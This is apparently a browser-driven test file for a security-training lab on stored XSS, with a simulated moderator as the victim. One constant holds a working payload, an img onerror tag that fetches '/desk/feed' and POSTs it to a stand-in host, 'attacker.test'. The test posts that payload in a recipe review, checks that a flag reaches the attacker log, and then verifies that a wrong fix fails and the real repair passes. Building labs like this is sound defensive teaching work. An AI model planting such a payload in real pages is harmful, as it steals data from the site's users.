import assert from "node:assert/strict";
import { after, before, describe } from "node:test";
import { launch, openPage } from "../../support/browser.js";
import { labFolder } from "../../support/labs.js";
import { stations } from "../../support/stations.js";
import { Workspace } from "../../support/workspace.js";

const lab = labFolder("a05-injection/xss-attacks/lab-stored-xss");
const script = "fetch('/desk/feed').then(r=>r.text()).then(t=>fetch('http://attacker.test/key',{method:'POST',mode:'no-cors',body:t}))";

describe("Stored XSS, with a victim", () => {
  const station = stations();
  let browser;
  let page;
  let workspace;
  before(async () => {
    browser = await launch();
    page = await openPage(browser);
  });
  after(() => browser.close());

  station("opens from the list and introduces the victim", async () => {
    workspace = await Workspace.openFromList(page, "Stored XSS");
    assert.match(await page.locator("#panel-brief").innerText(), /Get the feed key/);
    await page.getByRole("tab", { name: "Victim" }).click();
    await page.getByRole("heading", { name: "Mona, the moderator" }).waitFor();
    await page.getByText("No visit yet.").waitFor();
    await workspace.screenshot("xss-1-victim");
  });

  station("takes a review through the preview", async () => {
    const ladle = await workspace.preview();
    await workspace.browse("/recipes/1");
    await ladle.getByLabel("Your name").fill("Gundula");
    await ladle.getByLabel("Headline").fill("A dream");
    await ladle.getByLabel("How was it?").fill(`We loved it.<img src="/nothing" onerror="${script}">`);
    await workspace.screenshot("xss-2-review");
    await ladle.getByRole("button", { name: "Send review" }).click();
    await ladle.getByText("as soon as Mona has read it").waitFor();
  });

  station("brings the moderator, whose browser sends the key", async () => {
    await page.getByRole("button", { name: "Call Mona" }).click();
    const visit = page.locator(".visit");
    await visit.getByText(/1\. Mona (was there|did not get through)/).waitFor({ timeout: 120_000 });
    assert.match(await visit.innerText(), /was there/);
    await workspace.untilTaskDone(1);
    await page.getByRole("tab", { name: "Attacker's log" }).click();
    const request = page.locator(".requests > li", { hasText: "/key" }).first();
    await request.locator("summary").click();
    const body = request.locator("pre");
    await body.waitFor();
    assert.match(await body.innerText(), /FLAG\{\w+\}/);
    await workspace.screenshot("xss-3-noticed");
  });

  station("shows what the moderator saw", async () => {
    await page.getByRole("tab", { name: "Victim" }).click();
    const picture = page.getByRole("img", { name: "The last page of visit 1" });
    await picture.scrollIntoViewIfNeeded();
    await page.waitForFunction(() => document.querySelector(".visit img").naturalWidth > 100);
    await workspace.screenshot("xss-4-visit");
  });

  station("rejects script tags taken out", async () => {
    await workspace.writeFiles(await lab.repair("wrong-fixes/script-tags-removed"));
    const verdict = await workspace.checkMyFix();
    assert.equal(verdict.accepted, false);
    for (const sentence of await lab.rejectedBecause("wrong-fixes/script-tags-removed")) await workspace.seeReason(sentence);
    await workspace.screenshot("xss-5-rejected");
  });

  station("accepts the repair", async () => {
    await workspace.writeFiles(await lab.repair("solution"));
    const verdict = await workspace.checkMyFix();
    assert.deepEqual(verdict.checks.filter(({ result }) => result !== "passed"), []);
    assert.equal(verdict.accepted, true);
    await workspace.untilTaskDone(2);
    await workspace.screenshot("xss-6-accepted");
  });

  station("shows the debrief, and what the repair changed", async () => {
    const debrief = await workspace.openDebrief();
    for (const path of ["app/app.py", "app/static/desk.js", "app/templates/recipe.html"]) {
      await debrief.getByRole("region", { name: path }).waitFor();
    }
    const diff = debrief.getByRole("region", { name: "app/static/desk.js" });
    await diff.getByLabel("What app/static/desk.js is compared with").selectOption({ label: "The original and yours" });
    await diff.evaluate((section) => section.scrollIntoView({ block: "start" }));
    assert.ok(await diff.getByRole("textbox", { name: "Original: app/static/desk.js" }).locator(".cm-changedLine").count() > 0);
    await workspace.screenshot("xss-7-diff");
    assert.deepEqual(page.complaints, []);
  });
});
